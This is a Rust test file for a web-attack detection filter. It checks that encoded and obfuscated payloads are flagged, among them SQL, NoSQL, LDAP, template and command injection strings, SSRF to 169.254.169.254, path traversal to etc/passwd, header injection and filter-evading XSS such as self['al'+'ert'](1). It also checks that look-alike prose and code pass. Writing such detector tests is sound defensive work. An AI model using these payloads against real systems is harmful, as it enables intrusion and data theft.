//! Kinds of attacks that lists of attacks have, beside those of every category.

use super::*;

#[test]
fn what_hides_as_another_form_is_found() {
    for (rule, value) in [
        // A query behind its mark, line ends as escapes and as characters that are cut down to them.
        ("prototype_pollution", "?__proto__[admin]=1"),
        ("prototype_pollution", "a=1&__proto__.admin=1"),
        ("header_injection", "x\\r\\nX-Admin: 1"),
        ("header_injection", "x\\r\\n\\r\\n<b>"),
        ("header_injection", "x\r\nContent-Security-Policy:"),
        ("header_injection", "x%c4%8d%c4%8aSet-Cookie: a=b"),
        ("ssrf", "http%3a%5c%5c169.254.169.254%5cx"),
        ("ssrf", "http%3a%5c%5c127.0.0.1%5cx"),
        ("xxe", "+ADw-!DOCTYPE a+AD4-"),
        // Names of dots, and of what is left of programs.
        ("path_traversal", "0x2e0x2e0x2f"),
        ("path_traversal", "0x2E0x2E0x5C"),
        ("path_traversal", "..%c0%2f"),
        ("path_traversal", "..2f..2fetc2fpasswd"),
        ("sensitive_file", "/etc/services"),
        ("sensitive_file", "/usr/local/etc/php/php.ini"),
        ("sensitive_file", "index.php.bak"),
        ("sensitive_file", "boot.ini"),
        ("sensitive_file", "/home/ada/.bashrc"),
    ] {
        found(rule, value);
    }
}

#[test]
fn operands_and_words_of_each_language_are_found() {
    for (rule, value) in [
        ("ldap_injection", "admin)(*"),
        ("ldap_injection", "*)(cn"),
        ("nosql_injection", "1 || 1==1"),
        ("nosql_injection", "x' || a=='a"),
        ("nosql_injection", "1; do { x } while (y)"),
        ("sql_injection", "1) where 7 = 7"),
        ("sql_injection", "or 'a' = 'b"),
        ("sql_injection", "x' and right(version(),1)='1'--"),
        ("sql_injection", "order by 7--"),
        ("sql_injection", "declare @q nvarchar (9) select @q = 0x61"),
        ("xpath_injection", "x' or boolean(//user) or 'a"),
        ("template_injection", "{{7|times:7}}"),
        ("template_injection", "${{<%[%'\"}}%\\."),
        ("template_injection", "{{#with \"s\" as |string|}}"),
        ("expression_injection", "${requestScope}"),
        ("command_injection", "x; reg query HKLM"),
        ("command_injection", "x; waitfor /t 5 pause"),
        ("command_injection", "x;$'\\x69\\x64'"),
        ("command_injection", "x;{cat,/a}"),
        ("command_injection", "wget https://a.example/x"),
        ("command_injection", "\\nid\\n"),
        ("code_injection", "{${sleep(3)}}"),
        ("nosql_injection", "|| 1==1"),
        ("nosql_injection", "name[$ne]=1"),
        ("xss", "alert(1)"),
        ("xss", "1||alert(document.domain)"),
        ("xss", "new Worker('//a.example/w.js')"),
        ("xss", "self['al'+'ert'](1)"),
    ] {
        found(rule, value);
    }
}

#[test]
fn code_and_prose_that_look_the_same_pass() {
    for text in [
        "if (a === 'x' && b === 'y')",
        "if (a === 'x' && b === 'y') { return c; }",
        "s = (char*)(long)value;",
        "Please confirm (2) by mail, and alert (or call) me",
        "The `alert` of `confirm`, see [`alert`](https://a.example/b)",
        "Room 4\r\nDir Mohmen: 5",
        "It is in /etc, I think",
        "see index.php and boot.py",
        "use wget or curl to load https://a.example/",
    ] {
        clean(&format!("/?q={}", encode(text)), &[], "");
    }
}
